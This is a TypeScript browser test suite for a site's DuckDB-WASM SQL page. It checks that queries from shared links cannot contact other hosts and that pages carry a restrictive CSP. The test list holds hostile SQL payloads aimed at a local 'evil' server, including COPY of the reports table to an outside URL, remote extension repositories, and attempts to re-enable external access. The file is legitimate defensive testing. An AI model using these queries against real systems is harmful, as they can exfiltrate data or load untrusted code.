/**
 * The SQL page reaches no other host, whatever a shared `?sql=` link holds:
 * every query the audit used (read_csv/ATTACH/COPY on URLs, LOAD/INSTALL,
 * autoloaded extensions, custom_extension_repository, switching settings back)
 * runs from a shared link against a server on another origin that counts
 * requests; it must count none, and the page must request nothing off the site.
 * Every page carries the CSP whose connect-src is the site itself.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { createServer, type Server } from 'node:http';
import { haveChromium, launch, watch } from './browser.ts';

const siteUrl = inject('siteUrl');
const origin = new URL(siteUrl).origin;

let browser: Browser;
let evil: Server;
let evilUrl = '';
const hits: string[] = [];

beforeAll(async () => {
  evil = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'content-type': 'text/csv' });
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((ok) => evil.listen(0, '127.0.0.1', ok));
  evilUrl = `http://127.0.0.1:${(evil.address() as { port: number }).port}`;
  if (haveChromium()) browser = await launch();
});
afterAll(async () => { await browser?.close(); await new Promise((ok) => evil?.close(ok)); });

/** Each one fails with DuckDB's message. (A bare INSTALL is a no-op in DuckDB-WASM: it succeeds and fetches nothing; the LOAD after it fails.) */
const QUERIES = (u: string) => [
  `SELECT * FROM read_csv('${u}/x.csv')`,
  `SELECT * FROM '${u}/x.csv'`,
  `SELECT * FROM read_parquet('${u}/x.parquet')`,
  `SELECT * FROM read_json_auto('${u}/x.json')`,
  `SELECT * FROM read_text('${u}/t.txt')`,
  `ATTACH '${u}/x.duckdb' AS evil`,
  `COPY (SELECT * FROM reports) TO '${u}/out.csv'`,
  `LOAD httpfs; SELECT * FROM read_csv('${u}/x.csv')`,
  `INSTALL spatial; LOAD spatial`,
  `SELECT ST_Point(1, 2)`,
  `SET custom_extension_repository = '${u}/ext'; INSTALL json; LOAD json`,
  `INSTALL h3 FROM '${u}/ext'; LOAD h3`,
  `SET enable_external_access = true; SELECT * FROM read_csv('${u}/x.csv')`,
  `SET lock_configuration = false; SET enable_external_access = true; SELECT * FROM read_csv('${u}/x.csv')`,
  `SET autoinstall_known_extensions = true; SET autoload_known_extensions = true; SELECT * FROM read_xlsx('${u}/x.xlsx')`,
];

describe.skipIf(!haveChromium())('SQL page lockdown', () => {
  it('no query from a shared link reaches another host, and the page keeps working', async () => {
    const page = await browser.newPage();
    const seen = watch(page, origin);
    const outcomes: string[] = [];
    for (const sql of [...QUERIES(evilUrl), 'INSTALL httpfs', `INSTALL h3 FROM '${evilUrl}/ext'`]) {
      await page.goto(`${siteUrl}sql/?sql=${encodeURIComponent(sql)}`);
      await page.waitForFunction(() => document.getElementById('sql-app')!.dataset.runs === '1', null, { timeout: 60_000 });
      const err = await page.isVisible('#sql-error');
      outcomes.push(`${err ? 'refused' : 'RAN'}: ${sql}`);
    }
    expect(outcomes.filter((o) => o.startsWith('RAN') && !/^RAN: INSTALL [\w]+(?: FROM '[^']*')?$/.test(o))).toEqual([]);
    expect(hits).toEqual([]);
    expect(seen.offsite).toEqual([]);
    // The dataset itself is still readable after all that.
    await page.goto(`${siteUrl}sql/?sql=${encodeURIComponent('SELECT count(*) AS n FROM reports')}`);
    await page.waitForFunction(() => document.getElementById('sql-app')!.dataset.runs === '1', null, { timeout: 60_000 });
    expect(await page.isVisible('#sql-error')).toBe(false);
    expect(Number(await page.textContent('#sql-result tbody td'))).toBeGreaterThan(0);
    await page.close();
  }, 600_000);

  it('every page carries a CSP whose connect-src is the site itself', async () => {
    const page = await browser.newPage();
    for (const path of ['', 'sql/', 'downloads/', 'browse/', 'search/', 'quality/', 'methodology/', 'no-such-page/']) {
      await page.goto(new URL(path, siteUrl).href);
      const csp = await page.getAttribute('meta[http-equiv="content-security-policy"]', 'content');
      expect(csp, path).toMatch(/(?:^|; )connect-src 'self'(?:;|$)/);
      expect(csp, path).toMatch(/object-src 'none'/);
    }
    // An agency page and a report page (the report frame).
    const names = (await (await fetch(new URL('search/names.json', siteUrl))).json()) as string[][];
    await page.goto(new URL(`agencies/${names[0][0]}/`, siteUrl).href);
    expect(await page.getAttribute('meta[http-equiv="content-security-policy"]', 'content')).toMatch(/connect-src 'self'/);
    await page.goto(new URL('quality/', siteUrl).href);
    const report = await page.$$eval('a[href]', (as) => as.map((a) => (a as HTMLAnchorElement).href).find((h) => /\/reports\/[^/]+\/$|\/agencies\/[^/]+\/[^/]+\/$/.test(h)));
    expect(report).toBeTruthy();
    await page.goto(report!);
    expect(await page.getAttribute('meta[http-equiv="content-security-policy"]', 'content')).toMatch(/connect-src 'self'/);
    await page.close();
  });
});
